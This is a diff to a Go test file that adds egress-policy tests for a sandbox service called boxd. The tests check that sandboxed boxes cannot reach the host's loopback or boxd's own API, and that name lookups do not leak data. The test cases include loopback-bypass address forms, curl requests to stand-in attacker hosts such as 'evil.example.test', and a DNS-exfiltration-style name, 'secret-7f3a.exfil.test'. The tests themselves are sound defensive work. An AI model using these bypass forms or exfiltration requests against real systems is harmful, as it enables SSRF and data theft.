@@ -74,6 +74,11 @@ func (l *lockedBuffer) String() string {
 type netOptions struct {
 	names map[string]string // test host name → loopback address
 	roots *x509.CertPool
+	// offHost runs boxd as cmd/boxd does by default: boxes never reach
+	// the host's loopback.
+	offHost bool
+	// lookups, when set, is told of every name boxd resolves for a box.
+	lookups func(host string)
 }
 
 func newNetServer(t testing.TB, o netOptions) *netServer {
@@ -88,11 +93,15 @@ func newNetServer(t testing.TB, o netOptions) *netServer {
 	_, _ = rand.Read(kb[:])
 	ns := &netServer{key: "box_test_" + hex.EncodeToString(kb[:]), logs: &lockedBuffer{}}
 	srv, err := local.New(local.Config{
-		DataDir:       t.TempDir(),
-		APIKey:        ns.key,
-		Logger:        slog.New(slog.NewTextHandler(ns.logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
-		EgressRootCAs: o.roots,
+		AllowHostLoopback: !o.offHost, // the test servers on 127.0.0.1 stand in for the network
+		DataDir:           t.TempDir(),
+		APIKey:            ns.key,
+		Logger:            slog.New(slog.NewTextHandler(ns.logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
+		EgressRootCAs:     o.roots,
 		EgressResolver: func(ctx context.Context, host string) ([]netip.Addr, error) {
+			if o.lookups != nil {
+				o.lookups(host)
+			}
 			if a, ok := o.names[host]; ok {
 				return []netip.Addr{netip.MustParseAddr(a)}, nil
 			}
@@ -555,6 +564,89 @@ func TestEgressDenyAll(t *testing.T) {
 	}
 	if !found {
 		t.Errorf("no refusal in the box's log: %+v", logs)
+	}
+}
+
+// TestEgressNormalisesLoopback: a policy that denies the loopback ranges
+// also denies the unspecified and IPv4-mapped forms that reach loopback.
+func TestEgressNormalisesLoopback(t *testing.T) {
+	t.Parallel()
+	srv := newCountingServer(t, "127.0.0.1", nil)
+	ns := newNetServer(t, netOptions{})
+	b := ns.create(t, &box.CreateParams{NetworkPolicy: &box.NetworkPolicy{Mode: box.NetworkCustom, DeniedCIDRs: []string{"127.0.0.0/8", "::1/128"}}})
+	for _, host := range []string{"127.0.0.1", "0.0.0.0", "[::]", "[::1]", "[::ffff:0.0.0.0]", "[::ffff:127.0.0.1]"} {
+		for _, scheme := range []string{"http", "https"} {
+			u := scheme + "://" + host + ":" + srv.port + "/"
+			if code, out := curl(t, b, "-g --noproxy '' "+u); code == 0 || !strings.Contains(out, "403") {
+				t.Errorf("%s from a box that denies loopback: exit %d %q, want a 403", u, code, out)
+			}
+		}
+	}
+	if n := srv.hits.Load(); n != 0 {
+		t.Errorf("the host's server got %d requests", n)
+	}
+}
+
+// TestEgressHostAndBoxdOutOfReach runs boxd as cmd/boxd does: no box
+// reaches the host's loopback, not by allow-all, not by a name its
+// allowed_domains let through. And boxd's own API is out of reach even
+// where the host's loopback is allowed.
+func TestEgressHostAndBoxdOutOfReach(t *testing.T) {
+	t.Parallel()
+	srv := newCountingServer(t, "127.0.0.1", nil)
+	off := newNetServer(t, netOptions{offHost: true, names: map[string]string{"evil.example.test": "127.0.0.1"}})
+	open := off.create(t, nil)
+	wild := off.create(t, &box.CreateParams{NetworkPolicy: &box.NetworkPolicy{Mode: box.NetworkCustom, AllowedDomains: []string{"*.example.test"}}})
+	for _, tc := range []struct {
+		b   *box.Box
+		url string
+	}{
+		{open, "http://host.boxd.internal:" + srv.port + "/"},
+		{open, "--noproxy '' http://127.0.0.1:" + srv.port + "/"},
+		{open, "--noproxy '' http://0.0.0.0:" + srv.port + "/"},
+		{open, "https://host.boxd.internal:" + srv.port + "/"},
+		{wild, "http://evil.example.test:" + srv.port + "/"},
+		{wild, "https://evil.example.test:" + srv.port + "/"},
+	} {
+		if code, out := curl(t, tc.b, tc.url); code == 0 || !strings.Contains(out, "403") {
+			t.Errorf("%s from a box on a boxd that keeps boxes off the host: exit %d %q, want a 403", tc.url, code, out)
+		}
+	}
+	if n := srv.hits.Load(); n != 0 {
+		t.Errorf("the host's server got %d requests", n)
+	}
+
+	on := newNetServer(t, netOptions{names: map[string]string{"api.test": "127.0.0.1"}})
+	_, boxdPort, _ := net.SplitHostPort(on.addr)
+	b := on.create(t, &box.CreateParams{NetworkPolicy: &box.NetworkPolicy{Mode: box.NetworkCustom, AllowedDomains: []string{"api.test", "host.boxd.internal"}, AllowedCIDRs: []string{"0.0.0.0/0", "::/0"}}})
+	for _, bx := range []*box.Box{b, on.create(t, nil)} {
+		for _, host := range []string{"127.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]", "host.boxd.internal", "api.test"} {
+			u := "-g --noproxy '' -H 'X-Box-Api-Key: " + on.key + "' http://" + host + ":" + boxdPort + "/v2/box"
+			if code, out := curl(t, bx, u); code == 0 || !strings.Contains(out, "403") {
+				t.Errorf("boxd's own API at %s from a box: exit %d %q, want a 403", host, code, out)
+			}
+		}
+	}
+}
+
+// TestEgressLooksUpOnlyAllowedNames: a policy of addresses alone looks up
+// no name for the box (a lookup carries the name to whoever answers for
+// its domain).
+func TestEgressLooksUpOnlyAllowedNames(t *testing.T) {
+	t.Parallel()
+	var mu sync.Mutex
+	var asked []string
+	ns := newNetServer(t, netOptions{lookups: func(h string) { mu.Lock(); asked = append(asked, h); mu.Unlock() }})
+	b := ns.create(t, &box.CreateParams{NetworkPolicy: &box.NetworkPolicy{Mode: box.NetworkCustom, AllowedCIDRs: []string{"203.0.113.0/24"}}})
+	for _, u := range []string{"http://secret-7f3a.exfil.test/", "https://secret-7f3a.exfil.test/"} {
+		if code, out := curl(t, b, u); code == 0 || !strings.Contains(out, "403") {
+			t.Errorf("%s from a box that allows addresses only: exit %d %q, want a 403", u, code, out)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(asked) != 0 {
+		t.Errorf("boxd looked up %q for a box whose policy allows no name", asked)
 	}
 }
 
